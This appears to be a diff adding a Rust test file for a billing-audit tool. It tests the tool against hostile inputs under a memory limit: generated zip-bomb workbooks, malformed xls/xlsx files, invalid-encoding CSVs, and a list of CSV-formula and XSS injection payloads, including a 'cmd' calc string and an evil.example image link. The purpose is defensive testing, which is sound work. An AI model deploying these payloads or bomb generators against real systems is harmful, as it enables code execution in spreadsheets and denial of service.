@@ -1,0 +1,755 @@
+//! Hostile input: every file of the corpus in `tests/fixtures/hostile/` (see its README),
+//! and the bombs generated here (too large to keep), is given to the real binary beside a
+//! good bill, under `ulimit -v` (1 GB of address space, about seven times what a normal
+//! run of the test build needs) so that overcommit cannot hide an allocation. Each run
+//! must end with a contract exit status — never 101 (panic), 134 (abort), 137 (killed),
+//! 139 (crash) — with the hostile file reported by name and the good bill still audited,
+//! and the peak memory of the process is checked.
+
+mod common;
+
+use common::{Book, Fixture, simple_payouts, standard_billing};
+use serde_json::Value;
+use std::ffi::OsString;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+
+/// The address-space limit of every run, in KiB.
+const ADDRESS_SPACE_KB: u64 = 1_000_000;
+
+/// Peak resident memory a refusal may take, in KiB (research H1–H3: 256 MiB).
+const REFUSAL_RSS_KB: u64 = 256 * 1024;
+
+fn corpus(name: &str) -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("tests/fixtures/hostile")
+        .join(name)
+}
+
+/// One run under the address-space limit.
+struct Limited {
+    status: i32,
+    stderr: String,
+    /// Peak resident memory, KiB.
+    peak_kb: u64,
+    out: PathBuf,
+}
+
+impl Limited {
+    fn json(&self) -> Value {
+        let text = std::fs::read_to_string(self.out.join("findings.json"))
+            .unwrap_or_else(|error| panic!("no findings.json ({error}); stderr:\n{}", self.stderr));
+        serde_json::from_str(&text).unwrap()
+    }
+
+    /// The findings about `file` (by its path as given).
+    fn about(&self, file: &Path) -> Vec<Value> {
+        self.json()["findings"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .filter(|finding| finding["evidence"]["location"]["file"] == file.display().to_string())
+            .cloned()
+            .collect()
+    }
+
+    fn installment(&self) -> Value {
+        self.json()["expected"][0].clone()
+    }
+}
+
+/// Runs the binary with `args` and `--out <fixture>/out` under `ulimit -v`; the peak
+/// memory comes from `wait4` on the process (the shell `exec`s the binary), which also
+/// reaps it.
+#[allow(clippy::zombie_processes)]
+fn run_limited(fixture: &Fixture, args: &[OsString]) -> Limited {
+    let out = fixture.path("out");
+    let mut child = Command::new("sh")
+        .arg("-c")
+        .arg(format!("ulimit -v {ADDRESS_SPACE_KB}; exec \"$@\""))
+        .arg("sh")
+        .arg(env!("CARGO_BIN_EXE_rebate-audit"))
+        .args(args)
+        .arg("--out")
+        .arg(&out)
+        .env_remove("REBATE_AUDIT_LOG")
+        .stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .stderr(Stdio::piped())
+        .spawn()
+        .expect("sh runs");
+    let mut stderr = String::new();
+    std::io::Read::read_to_string(&mut child.stderr.take().unwrap(), &mut stderr).unwrap();
+    let mut status = 0;
+    // SAFETY: plain structs filled in by the kernel for our own child.
+    let mut usage: libc::rusage = unsafe { std::mem::zeroed() };
+    let pid = libc::pid_t::try_from(child.id()).unwrap();
+    let waited = unsafe { libc::wait4(pid, &mut status, 0, &mut usage) };
+    assert_eq!(waited, pid, "wait4");
+    assert!(
+        libc::WIFEXITED(status),
+        "killed by signal {}; stderr:\n{stderr}",
+        libc::WTERMSIG(status)
+    );
+    let status = libc::WEXITSTATUS(status);
+    assert!(
+        matches!(status, 0..=3),
+        "exit status {status} is a crash; stderr:\n{stderr}"
+    );
+    assert!(!stderr.contains("panicked"), "{stderr}");
+    Limited {
+        status,
+        stderr,
+        peak_kb: u64::try_from(usage.ru_maxrss).unwrap(),
+        out,
+    }
+}
+
+/// The standard audit (contract C1, account A1, 10,000.00 in January 2025, paid 2,000.00)
+/// with `hostile` as a second billing file.
+fn audit_with_billing(fixture: &Fixture, hostile: &Path) -> Limited {
+    let contracts = Book::standard().write_csv_folder(fixture.dir.path(), "contracts");
+    let good = fixture.write("billing.csv", standard_billing());
+    let payouts = fixture.write(
+        "payouts.csv",
+        simple_payouts(&[("P1", "C1", "2025-02-15", "2000.00")]),
+    );
+    run_limited(
+        fixture,
+        &[
+            "run".into(),
+            "--contracts".into(),
+            contracts.into(),
+            "--billing".into(),
+            good.into(),
+            hostile.into(),
+            "--payouts".into(),
+            payouts.into(),
+            "--as-of".into(),
+            "2025-06-30".into(),
+        ],
+    )
+}
+
+/// `hostile` is refused as a whole: one `rejected_row` finding (reason `file`) whose
+/// detail holds every part of `says`; the good bill is audited as if it were alone.
+fn refused_file(hostile: &Path, says: &[&str]) -> (Fixture, Limited) {
+    let fixture = Fixture::new();
+    let run = audit_with_billing(&fixture, hostile);
+    assert_eq!(run.status, 1, "{}", run.stderr);
+    let about = run.about(hostile);
+    assert_eq!(about.len(), 1, "{about:#?}");
+    assert_eq!(about[0]["type"], "rejected_row");
+    assert_eq!(about[0]["reason"], "file");
+    assert_eq!(about[0]["severity"], "error");
+    let detail = about[0]["detail"].as_str().unwrap();
+    for part in says {
+        assert!(detail.contains(part), "`{part}` not in: {detail}");
+    }
+    // Nothing of it reached C1: E = 20% of 10,000.00, paid in full.
+    assert_eq!(run.installment()["expected"], "2000.00");
+    assert_eq!(run.installment()["status"], "paid");
+    assert!(
+        run.peak_kb < REFUSAL_RSS_KB,
+        "peak memory {} KiB",
+        run.peak_kb
+    );
+    (fixture, run)
+}
+
+// ---------------------------------------------------------------------------------------
+// Workbooks that inflate without end ("zip bombs"), built here: a deflate stream of
+// repeats costs 13 to 21 bits per 258 bytes, so gigabytes fit in a few megabytes.
+// ---------------------------------------------------------------------------------------
+
+/// Writes a raw deflate stream (RFC 1951) with the fixed Huffman codes.
+struct Deflate {
+    out: Vec<u8>,
+    bits: u64,
+    count: u32,
+}
+
+impl Deflate {
+    fn new() -> Self {
+        let mut deflate = Deflate {
+            out: Vec::new(),
+            bits: 0,
+            count: 0,
+        };
+        deflate.put(1, 1); // the last block
+        deflate.put(1, 2); // fixed Huffman codes
+        deflate
+    }
+
+    /// `count` bits of `value`, least significant first.
+    fn put(&mut self, value: u32, count: u32) {
+        self.bits |= u64::from(value) << self.count;
+        self.count += count;
+        while self.count >= 8 {
+            self.out.push(self.bits as u8);
+            self.bits >>= 8;
+            self.count -= 8;
+        }
+    }
+
+    /// A Huffman code: most significant bit first.
+    fn code(&mut self, code: u32, length: u32) {
+        self.put(code.reverse_bits() >> (32 - length), length);
+    }
+
+    fn literal(&mut self, byte: u8) {
+        match byte {
+            0..=143 => self.code(0x30 + u32::from(byte), 8),
+            _ => self.code(0x190 + u32::from(byte - 144), 9),
+        }
+    }
+
+    /// A copy of 258 bytes from `distance` back.
+    fn copy_258(&mut self, distance: u32) {
+        const BASE: [u32; 30] = [
+            1, 2, 3, 4, 5, 7, 9, 13, 17, 25, 33, 49, 65, 97, 129, 193, 257, 385, 513, 769, 1025,
+            1537, 2049, 3073, 4097, 6145, 8193, 12289, 16385, 24577,
+        ];
+        self.code(0xC5, 8); // length symbol 285: 258
+        let symbol = BASE.iter().rposition(|&base| base <= distance).unwrap();
+        self.code(symbol as u32, 5);
+        let extra = match symbol {
+            0..=3 => 0,
+            _ => (symbol as u32 - 2) / 2,
+        };
+        self.put(distance - BASE[symbol], extra);
+    }
+
+    fn bytes(&mut self, bytes: &[u8]) {
+        for &byte in bytes {
+            self.literal(byte);
+        }
+    }
+
+    /// `unit` repeated until `total` bytes.
+    fn repeat(&mut self, unit: &[u8], total: u64) {
+        self.bytes(unit);
+        let mut written = unit.len() as u64;
+        while total - written >= 258 {
+            self.copy_258(unit.len() as u32);
+            written += 258;
+        }
+        for position in written..total {
+            self.literal(unit[(position % unit.len() as u64) as usize]);
+        }
+    }
+
+    fn finish(mut self) -> Vec<u8> {
+        self.code(0, 7); // end of block
+        if self.count > 0 {
+            self.put(0, 8 - self.count);
+        }
+        self.out
+    }
+}
+
+fn crc32(bytes: &[u8]) -> u32 {
+    let mut crc = !0u32;
+    for &byte in bytes {
+        crc ^= u32::from(byte);
+        for _ in 0..8 {
+            crc = (crc >> 1) ^ (0xEDB8_8320 & (crc & 1).wrapping_neg());
+        }
+    }
+    !crc
+}
+
+/// A zip member: name, then either stored bytes or a deflate stream with its inflated
+/// size (its CRC is left 0: a refused part is never read to its end).
+enum Member {
+    Stored(&'static str, Vec<u8>),
+    Deflated(&'static str, Vec<u8>, u64),
+}
+
+fn zip(members: &[Member]) -> Vec<u8> {
+    let mut file = Vec::new();
+    let mut directory = Vec::new();
+    for member in members {
+        let (name, method, crc, data, size) = match member {
+            Member::Stored(name, data) => (*name, 0u16, crc32(data), data, data.len() as u64),
+            Member::Deflated(name, data, size) => (*name, 8u16, 0, data, *size),
+        };
+        let offset = file.len() as u32;
+        let header = |signature: u32, central: bool| {
+            let mut bytes = signature.to_le_bytes().to_vec();
+            if central {
+                bytes.extend(20u16.to_le_bytes());
+            }
+            for value in [20u16, 0, method, 0, 0x21] {
+                bytes.extend(value.to_le_bytes());
+            }
+            bytes.extend(crc.to_le_bytes());
+            bytes.extend((data.len() as u32).to_le_bytes());
+            bytes.extend(u32::try_from(size).unwrap().to_le_bytes());
+            bytes.extend((name.len() as u16).to_le_bytes());
+            bytes.extend(0u16.to_le_bytes());
+            if central {
+                for value in [0u16, 0, 0] {
+                    bytes.extend(value.to_le_bytes());
+                }
+                bytes.extend(0u32.to_le_bytes());
+                bytes.extend(offset.to_le_bytes());
+            }
+            bytes.extend(name.as_bytes());
+            bytes
+        };
+        file.extend(header(0x0403_4b50, false));
+        file.extend(data);
+        directory.extend(header(0x0201_4b50, true));
+    }
+    let start = file.len() as u32;
+    file.extend(&directory);
+    file.extend(0x0605_4b50u32.to_le_bytes());
+    for value in [0u16, 0, members.len() as u16, members.len() as u16] {
+        file.extend(value.to_le_bytes());
+    }
+    file.extend((directory.len() as u32).to_le_bytes());
+    file.extend(start.to_le_bytes());
+    file.extend(0u16.to_le_bytes());
+    file
+}
+
+const MAIN: &str = "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"";
+
+/// A one-sheet workbook whose parts are `sheet` and `styles` as given, the rest minimal.
+fn workbook(sheet: Member, styles: Option<Member>) -> Vec<u8> {
+    let relationships = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
+    let mut members = vec![
+        Member::Stored(
+            "[Content_Types].xml",
+            br#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>"#.to_vec(),
+        ),
+        Member::Stored(
+            "_rels/.rels",
+            format!(r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{relationships}/officeDocument" Target="xl/workbook.xml"/></Relationships>"#).into_bytes(),
+        ),
+        Member::Stored(
+            "xl/workbook.xml",
+            format!(r#"<?xml version="1.0"?><workbook {MAIN} xmlns:r="{relationships}"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>"#).into_bytes(),
+        ),
+        Member::Stored(
+            "xl/_rels/workbook.xml.rels",
+            format!(r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{relationships}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>"#).into_bytes(),
+        ),
+        sheet,
+    ];
+    members.extend(styles);
+    zip(&members)
+}
+
+const GIB: u64 = 1024 * 1024 * 1024;
+
+#[test]
+fn a_workbook_whose_one_cell_inflates_to_two_gigabytes_is_refused_in_little_memory() {
+    // 14 MB on disk; its sheet would inflate to 2 GiB of one text, which calamine's XML
+    // reader holds whole: the process aborted before the token limit.
+    let head = format!(
+        r#"<?xml version="1.0"?><worksheet {MAIN}><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>"#
+    );
+    let tail = "</t></is></c></row></sheetData></worksheet>";
+    let mut deflate = Deflate::new();
+    deflate.bytes(head.as_bytes());
+    deflate.repeat(b"A", 2 * GIB);
+    deflate.bytes(tail.as_bytes());
+    let size = head.len() as u64 + 2 * GIB + tail.len() as u64;
+    let bytes = workbook(
+        Member::Deflated("xl/worksheets/sheet1.xml", deflate.finish(), size),
+        None,
+    );
+    assert!(bytes.len() < 16_000_000, "{} bytes", bytes.len());
+    let fixture = Fixture::new();
+    let bomb = fixture.write("bomb.xlsx", &bytes);
+    let (_run_fixture, run) = refused_file(
+        &bomb,
+        &[
+            "an XML token",
+            "`xl/worksheets/sheet1.xml`",
+            "over the limit of 16777216 bytes",
+        ],
+    );
+    eprintln!("text bomb refused; peak {} KiB", run.peak_kb);
+}
+
+#[test]
+fn a_workbook_part_that_inflates_past_a_gigabyte_is_refused_before_calamine() {
+    // Styles made of a small tag repeated: no long token, but 1.1 GiB once inflated, and
+    // calamine reads the styles whole.
+    let mut unit = b"<x a=\"".to_vec();
+    unit.extend(std::iter::repeat_n(b'a', 1012));
+    unit.extend(b"\"/>");
+    assert_eq!(unit.len(), 1021);
+    let mut deflate = Deflate::new();
+    deflate.repeat(&unit, GIB + GIB / 10);
+    let sheet = format!(
+        r#"<?xml version="1.0"?><worksheet {MAIN}><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>account_id</t></is></c></row></sheetData></worksheet>"#
+    );
+    let bytes = workbook(
+        Member::Stored("xl/worksheets/sheet1.xml", sheet.into_bytes()),
+        Some(Member::Deflated(
+            "xl/styles.xml",
+            deflate.finish(),
+            GIB + GIB / 10,
+        )),
+    );
+    assert!(bytes.len() < 16_000_000, "{} bytes", bytes.len());
+    let fixture = Fixture::new();
+    let bomb = fixture.write("styles-bomb.xlsx", &bytes);
+    let (_run_fixture, run) = refused_file(
+        &bomb,
+        &[
+            "the part `xl/styles.xml` once decompressed is 1073741825 bytes",
+            "over the limit of 1073741824 bytes",
+        ],
+    );
+    eprintln!("part bomb refused; peak {} KiB", run.peak_kb);
+}
+
+#[test]
+fn a_shared_string_table_declaring_four_billion_strings_is_refused() {
+    refused_file(
+        &corpus("shared-strings-count.xlsx"),
+        &["declared count (4294967295 strings"],
+    );
+}
+
+#[test]
+fn an_xls_whose_header_declares_every_sector_is_a_rejected_file() {
+    refused_file(
+        &corpus("max-fat-counts.xls"),
+        &["cannot read the workbook", "Cfb error"],
+    );
+}
+
+#[test]
+fn a_2_kb_xlsx_declaring_the_whole_grid_streams_its_rows_in_little_memory() {
+    // <dimension ref="A1:XFD1048576"/>, a header and one bill row, and a cell at
+    // XFD1048576: read cell by cell, the grid between is never allocated.
+    let hostile = corpus("huge-dimension.xlsx");
+    assert!(std::fs::metadata(&hostile).unwrap().len() < 2048);
+    let fixture = Fixture::new();
+    let run = audit_with_billing(&fixture, &hostile);
+    assert_eq!(run.status, 1, "{}", run.stderr);
+    assert!(run.about(&hostile).is_empty(), "{:#?}", run.about(&hostile));
+    // Its row counts: 20% of 10,500.00, of which 2,000.00 paid.
+    assert_eq!(run.installment()["weighted_base"], "10500.00");
+    assert_eq!(run.installment()["status"], "underpaid");
+    let control = run.json()["controls"]["billing"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|control| control["file"] == hostile.display().to_string())
+        .cloned()
+        .unwrap();
+    assert_eq!(control["read"]["rows"], 1);
+    // The far cell is past the widest row kept (1,024 columns): its row reads as blank.
+    assert_eq!(control["blank_rows"], 1);
+    assert_eq!(control["balanced"], true);
+    assert!(run.peak_kb < REFUSAL_RSS_KB, "peak {} KiB", run.peak_kb);
+}
+
+#[test]
+fn invalid_utf8_in_the_middle_of_a_csv_refuses_the_file_never_replaces_bytes() {
+    // 1,000 good rows, then a product with the bytes FF FE, then 1,000 more.
+    let hostile = corpus("invalid-utf8-mid-file.csv");
+    let (_run_fixture, run) = refused_file(
+        &hostile,
+        &["neither UTF-8 nor GBK/GB18030", "at byte offset 24039"],
+    );
+    for name in ["findings.json", "findings.csv", "report.html", "summary.md"] {
+        let text = std::fs::read_to_string(run.out.join(name)).unwrap();
+        assert!(
+            !text.contains('\u{FFFD}'),
+            "a replacement character in {name}"
+        );
+    }
+}
+
+/// A bill of `rows` rows of 1.00 for account A1, with `bad` as the product of row `at`;
+/// in GBK, each row also names its instance 实例 (so the start is not plain ASCII).
+fn long_bill(rows: usize, at: usize, bad: &[u8], gbk: bool) -> Vec<u8> {
+    let mut bytes = b"account_id,billing_month,product,net_amount,currency".to_vec();
+    bytes.extend(if gbk { &b",instance_id\n"[..] } else { b"\n" });
+    for row in 2..=rows + 1 {
+        bytes.extend(b"A1,2025-01,");
+        if row == at {
+            bytes.extend(bad);
+        } else {
+            bytes.extend(b"ECS");
+        }
+        bytes.extend(b",1.00,CNY");
+        // 实例 in GBK.
+        bytes.extend(if gbk {
+            &b",\xca\xb5\xc0\xfd\n"[..]
+        } else {
+            b"\n"
+        });
+    }
+    bytes
+}
+
+#[test]
+fn invalid_utf8_past_the_sniffed_start_rejects_its_row_and_reads_the_rest() {
+    // 20,000 rows (about 500 KB); the encoding is decided from the first 256 KiB, so row
+    // 15,000 is read as UTF-8 and its bad bytes reject that row alone.
+    let fixture = Fixture::new();
+    let hostile = fixture.write("late.csv", long_bill(20_000, 15_000, b"EC\xff\xfeS", false));
+    let run = audit_with_billing(&fixture, &hostile);
+    assert_eq!(run.status, 1, "{}", run.stderr);
+    let about = run.about(&hostile);
+    assert_eq!(about.len(), 1, "{about:#?}");
+    assert_eq!(about[0]["evidence"]["location"]["row"], 15_000);
+    assert!(
+        about[0]["detail"]
+            .as_str()
+            .unwrap()
+            .contains("field 3 is not valid UTF-8 although the file is"),
+        "{about:#?}"
+    );
+    // The 19,999 other rows count.
+    assert_eq!(run.installment()["weighted_base"], "29999.00");
+    let text = std::fs::read_to_string(run.out.join("findings.json")).unwrap();
+    assert!(!text.contains('\u{FFFD}'));
+}
+
+#[test]
+fn invalid_gbk_past_the_sniffed_start_stops_the_file_there_and_says_so() {
+    let fixture = Fixture::new();
+    let hostile = fixture.write("late-gbk.csv", long_bill(20_000, 15_000, b"\x81\x20", true));
+    let run = audit_with_billing(&fixture, &hostile);
+    assert_eq!(run.status, 1, "{}", run.stderr);
+    let about = run.about(&hostile);
+    assert_eq!(about.len(), 1, "{about:#?}");
+    let detail = about[0]["detail"].as_str().unwrap();
+    assert!(
+        detail.contains("the file cannot be read past here")
+            && detail.contains("undecodable bytes near byte offset"),
+        "{detail}"
+    );
+    // The decoder works a block ahead of the parser, so it stops at the row the parser
+    // had reached when the block with the bad bytes (row 15,000) failed: every row before
+    // that one counts, none after is read, and the finding says where.
+    let row = about[0]["evidence"]["location"]["row"].as_u64().unwrap();
+    assert!((10_000..=15_000).contains(&row), "row {row}");
+    let installment = run.installment();
+    let base = installment["weighted_base"].as_str().unwrap();
+    let read = base.trim_end_matches(".00").parse::<u64>().unwrap() - 10_000;
+    assert_eq!(read + 2, row, "rows 2 to {} read", row - 1);
+    let text = std::fs::read_to_string(run.out.join("findings.json")).unwrap();
+    assert!(!text.contains('\u{FFFD}'));
+}
+
+#[test]
+fn an_invalid_gbk_byte_pair_refuses_the_file_with_its_offset() {
+    refused_file(
+        &corpus("invalid-gbk.csv"),
+        &["neither UTF-8 nor GBK/GB18030", "at byte offset 93"],
+    );
+}
+
+#[test]
+fn an_unbalanced_quote_rejects_every_row_it_swallows_and_the_totals_still_balance() {
+    // Rows 2–11 are good; row 12 opens a quote that never closes and swallows 13–32.
+    let hostile = corpus("unbalanced-quote.csv");
+    let fixture = Fixture::new();
+    let run = audit_with_billing(&fixture, &hostile);
+    assert_eq!(run.status, 1, "{}", run.stderr);
+    let rows: Vec<u64> = run
+        .about(&hostile)
+        .iter()
+        .map(|finding| {
+            assert_eq!(finding["type"], "rejected_row");
+            finding["evidence"]["location"]["row"].as_u64().unwrap()
+        })
+        .collect();
+    assert_eq!(rows.len(), 21, "{rows:?}");
+    assert!(rows.contains(&12) && rows.contains(&32), "{rows:?}");
+    let swallowed = run
+        .about(&hostile)
+        .iter()
+        .filter(|finding| {
+            finding["detail"]
+                .as_str()
+                .unwrap()
+                .contains("swallowed by the unclosed quote opened on line 12")
+        })
+        .count();
+    assert_eq!(swallowed, 20);
+    // The ten good rows count: 10,000.00 + 10 × 1.00.
+    assert_eq!(run.installment()["weighted_base"], "10010.00");
+    let control = run.json()["controls"]["billing"][1].clone();
+    assert_eq!(control["read"]["rows"], 31);
+    assert_eq!(control["rejected"]["rows"], 21);
+    assert_eq!(control["balanced"], true);
+}
+
+#[test]
+fn ragged_rows_short_ones_rejected_long_ones_read_up_to_the_header() {
+    // Row 3 has a sixth field beyond the header, row 4 lacks its currency.
+    let hostile = corpus("ragged-rows.csv");
+    let fixture = Fixture::new();
+    let run = audit_with_billing(&fixture, &hostile);
+    assert_eq!(run.status, 1, "{}", run.stderr);
+    let about = run.about(&hostile);
+    assert_eq!(about.len(), 1, "{about:#?}");
+    assert_eq!(about[0]["evidence"]["location"]["row"], 4);
+    assert!(
+        about[0]["detail"]
+            .as_str()
+            .unwrap()
+            .contains("currency: expected a currency code such as CNY, found (empty)"),
+        "{about:#?}"
+    );
+    // Rows 2, 3 and 5 count: 1.00 + 2.00 + 8.00; row 4's 4.00 is rejected and counted.
+    assert_eq!(run.installment()["weighted_base"], "10011.00");
+    let control = run.json()["controls"]["billing"][1].clone();
+    assert_eq!(control["read"]["rows"], 4);
+    assert_eq!(control["read"]["amount"], "15.00");
+    assert_eq!(control["rejected"]["amount"], "4.00");
+    assert_eq!(control["balanced"], true);
+}
+
+/// Payloads of research R1–R3 that the injection fixtures put in product names,
+/// account ids, payout ids and contract ids.
+const PAYLOADS: [&str; 9] = [
+    "=HYPERLINK(\"http://x/?\"&A1)",
+    "@SUM(1+1)",
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "\t=1+1",
+    "＝1+1",
+    "<script>alert(1)</script>",
+    "\"><img src=x onerror=alert(1)>",
+    "a|b`c`![x](http://evil.example/x.png)",
+];
+
+fn injection_run(fixture: &Fixture) -> Limited {
+    let contracts = Book::standard().write_csv_folder(fixture.dir.path(), "contracts");
+    run_limited(
+        fixture,
+        &[
+            "run".into(),
+            "--contracts".into(),
+            contracts.into(),
+            "--billing".into(),
+            corpus("injection-billing.csv").into(),
+            "--payouts".into(),
+            corpus("injection-payouts.csv").into(),
+            "--as-of".into(),
+            "2025-06-30".into(),
+        ],
+    )
+}
+
+/// A text cell a spreadsheet would run as a formula.
+fn formula_like(text: &str) -> bool {
+    let trimmed = text.trim_start_matches([' ', '"']);
+    text.starts_with(['\t', '\r', '\n', '\0'])
+        || trimmed.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
+}
+
+#[test]
+fn injection_payloads_are_inert_in_the_csv_xlsx_and_html_reports() {
+    let fixture = Fixture::new();
+    let run = injection_run(&fixture);
+    assert_eq!(run.status, 1, "{}", run.stderr);
+    let json = run.json();
+    let findings = json["findings"].as_array().unwrap();
+    // Each payload is a product, an account and a payout naming a contract.
+    for (kind, count) in [
+        ("unknown_product", 9),
+        ("uncovered_billing", 9),
+        ("unmatched_payout", 9),
+    ] {
+        let found = findings
+            .iter()
+            .filter(|finding| finding["type"] == kind)
+            .count();
+        assert_eq!(found, count, "{kind}");
+    }
+    // findings.json keeps the raw values.
+    let raw = serde_json::to_string(&json).unwrap();
+    for payload in PAYLOADS {
+        let quoted = serde_json::to_string(payload.trim()).unwrap();
+        assert!(
+            raw.contains(&quoted[1..quoted.len() - 1]),
+            "{payload:?} kept raw in findings.json"
+        );
+    }
+    // findings.csv: no field a spreadsheet would run.
+    let csv_bytes = std::fs::read(run.out.join("findings.csv")).unwrap();
+    let mut reader = csv::ReaderBuilder::new().from_reader(&csv_bytes[3..]);
+    let mut fields = 0;
+    for record in reader.records() {
+        for field in record.unwrap().iter() {
+            fields += 1;
+            // Money and counts are plain numbers (`-1.80`), never text.
+            let number = field.parse::<f64>().is_ok();
+            assert!(
+                number || !formula_like(field),
+                "findings.csv field {field:?}"
+            );
+        }
+    }
+    assert!(fields > 27 * 10);
+    // The workbooks: no formula cell, no text cell a spreadsheet would run.
+    for name in ["findings.xlsx", "report.xlsx"] {
+        use calamine::{Data, Reader, open_workbook};
+        let mut workbook: calamine::Xlsx<_> = open_workbook(run.out.join(name)).unwrap();
+        for sheet in workbook.sheet_names() {
+            let formulas = workbook.worksheet_formula(&sheet).unwrap();
+            assert!(
+                formulas
+                    .used_cells()
+                    .all(|(_, _, formula)| formula.is_empty()),
+                "{name}:{sheet} holds a formula"
+            );
+            for (row, column, cell) in workbook.worksheet_range(&sheet).unwrap().used_cells() {
+                if let Data::String(text) = cell {
+                    assert!(
+                        !formula_like(text),
+                        "{name}:{sheet}:{row}:{column} {text:?}"
+                    );
+                }
+            }
+        }
+    }
+    // The pages: escaped markup, a Content-Security-Policy, nothing loaded.
+    for name in ["report.html", "summary.html"] {
+        let page = std::fs::read_to_string(run.out.join(name)).unwrap();
+        assert!(!page.contains("<script>alert"), "{name}");
+        assert!(!page.contains("<img"), "{name}");
+        assert!(
+            page.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
+            "{name}"
+        );
+        assert!(!page.contains("src=\"http"), "{name}");
+    }
+    let report = std::fs::read_to_string(run.out.join("report.html")).unwrap();
+    assert!(report.contains("Content-Security-Policy"));
+}
+
+#[test]
+#[ignore = "summary.md and evidence/<contract>.md do not escape HTML or image links yet (research R3)"]
+fn injection_payloads_are_inert_in_the_markdown_reports() {
+    let fixture = Fixture::new();
+    let run = injection_run(&fixture);
+    let mut files = vec![run.out.join("summary.md")];
+    for entry in std::fs::read_dir(run.out.join("evidence")).unwrap() {
+        let path = entry.unwrap().path();
+        if path.extension().is_some_and(|extension| extension == "md") {
+            files.push(path);
+        }
+    }
+    for file in files {
+        let text = std::fs::read_to_string(&file).unwrap();
+        let name = file.display();
+        assert!(!text.contains("<script>"), "{name}: raw <script>");
+        assert!(!text.contains("<img"), "{name}: raw <img>");
+        assert!(!text.contains("](http://evil"), "{name}: a live image link");
+    }
+}
